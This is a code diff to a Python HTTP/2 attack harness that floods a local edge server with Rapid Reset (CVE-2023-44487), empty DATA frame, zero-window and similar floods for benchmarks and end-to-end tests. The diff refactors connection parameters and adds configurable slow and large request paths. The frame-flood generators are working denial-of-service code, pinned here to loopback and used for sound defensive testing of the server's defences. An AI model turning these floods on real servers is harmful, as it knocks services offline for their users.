@@ -1,12 +1,14 @@
 """HTTP/2 attack clients, for bench/attack_bench.py and tests/e2e/test_h2_attacks.py (loopback only).
 
     python bench/h2_attacks.py ATTACK PORT HOST CA_FILE [--parallel P] [--pause W] [--connections N] [--seconds S]
+                                [--slow-path PATH] [--big-path PATH]
 
 Runs ATTACK against 127.0.0.1:PORT (TLS SNI and :authority HOST, trusting CA_FILE) on
 P connections at a time, each reopened W seconds after the edge closed it, until N
 connections finished, S seconds passed or SIGTERM. Each connection writes its attack in batches and
 looks for the edge's GOAWAY between them; it stops at the GOAWAY, a closed socket or the
-attack's frame cap. Prints one JSON line per finished connection, then a summary line.
+attack's frame cap. Requests name --slow-path (an answer that takes a while) or
+--big-path (a large one). Prints one JSON line per finished connection, then a summary.
 """
 
 from __future__ import annotations
@@ -55,13 +57,23 @@ class Outcome:
     debug: str = ""
 
 
+@dataclass(frozen=True)
+class Target:
+    port: int
+    host: str
+    context: ssl.SSLContext
+    slow_path: str
+    big_path: str
+
+
 class Conversation:
     """One TLS connection speaking raw HTTP/2 frames."""
 
-    def __init__(self, port: int, host: str, context: ssl.SSLContext) -> None:
-        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
-        self.sock = context.wrap_socket(raw, server_hostname=host)
-        self.host = host
+    def __init__(self, target: Target) -> None:
+        raw = socket.create_connection(("127.0.0.1", target.port), timeout=10)
+        self.sock = target.context.wrap_socket(raw, server_hostname=target.host)
+        self.target = target
+        self.host = target.host
         self.encoder = hpack.Encoder()
         self.buffer = b""
         self.goaway: GoAwayFrame | None = None
@@ -130,7 +142,7 @@ def rapid_reset(conv: Conversation) -> Iterator[Frame]:
     """CVE-2023-44487: a slow request, reset at once, again and again."""
     stream_id = 1
     while True:
-        yield conv.request(stream_id, "/attack?delay=5")
+        yield conv.request(stream_id, conv.target.slow_path)
         yield RstStreamFrame(stream_id, error_code=CANCEL)
         stream_id += 2
 
@@ -145,7 +157,7 @@ def priority_flood(conv: Conversation) -> Iterator[Frame]:
 
 def empty_data_flood(conv: Conversation) -> Iterator[Frame]:
     """CVE-2019-9518: zero-length DATA frames on an open request."""
-    yield conv.request(1, "/attack?delay=5", end_stream=False)
+    yield conv.request(1, conv.target.slow_path, end_stream=False)
     while True:
         yield DataFrame(1, data=b"")
 
@@ -159,7 +171,7 @@ def window_update_flood(conv: Conversation) -> Iterator[Frame]:
 def zero_window_trickle(conv: Conversation) -> Iterator[Frame]:
     """A download the client lets through one byte per WINDOW_UPDATE."""
     yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
-    yield conv.request(1, "/download?mb=1")
+    yield conv.request(1, conv.target.big_path)
     while True:
         yield WindowUpdateFrame(1, window_increment=1)
 
@@ -221,12 +233,12 @@ ATTACKS: dict[str, tuple[Callable[[Conversation], Iterator[Frame]], int, float]]
 }
 
 
-def attack_once(name: str, port: int, host: str, context: ssl.SSLContext, stop: threading.Event) -> Outcome:
+def attack_once(name: str, target: Target, stop: threading.Event) -> Outcome:
     """One connection: preface and SETTINGS, then the attack until the edge ends it."""
     flood, size, interval = ATTACKS[name]
     outcome, started = Outcome(name), time.monotonic()
     try:
-        conv = Conversation(port, host, context)
+        conv = Conversation(target)
     except OSError as exc:
         return Outcome(name, ended="refused", debug=repr(exc))
     with conv.sock:
@@ -257,6 +269,7 @@ def attack_once(name: str, port: int, host: str, context: ssl.SSLContext, stop: 
 def run(args: argparse.Namespace) -> list[Outcome]:
     context = ssl.create_default_context(cafile=args.ca_file)
     context.set_alpn_protocols(["h2"])
+    target = Target(args.port, args.host, context, args.slow_path, args.big_path)
     stop = threading.Event()
     timer = threading.Timer(args.seconds, stop.set)
     timer.daemon = True
@@ -272,7 +285,7 @@ def run(args: argparse.Namespace) -> list[Outcome]:
                 if started >= args.connections:
                     return
                 started += 1
-            outcome = attack_once(args.attack, args.port, args.host, context, stop)
+            outcome = attack_once(args.attack, target, stop)
             with lock:
                 outcomes.append(outcome)
                 print(json.dumps(asdict(outcome)), flush=True)
@@ -299,6 +312,8 @@ def main() -> None:
     parser.add_argument("--pause", type=float, default=0.0, help="seconds before a worker reconnects (default 0)")
     parser.add_argument("--connections", type=int, default=1000, help="connections in all, at most (default 1000)")
     parser.add_argument("--seconds", type=float, default=30.0, help="run time at most (default 30)")
+    parser.add_argument("--slow-path", default="/attack?delay=5", help="a request answered slowly (default: tests/e2e/origin.py's)")
+    parser.add_argument("--big-path", default="/download?mb=1", help="a request with a large answer (default: tests/e2e/origin.py's)")
     args = parser.parse_args()
     outcomes = run(args)
     ended = {}
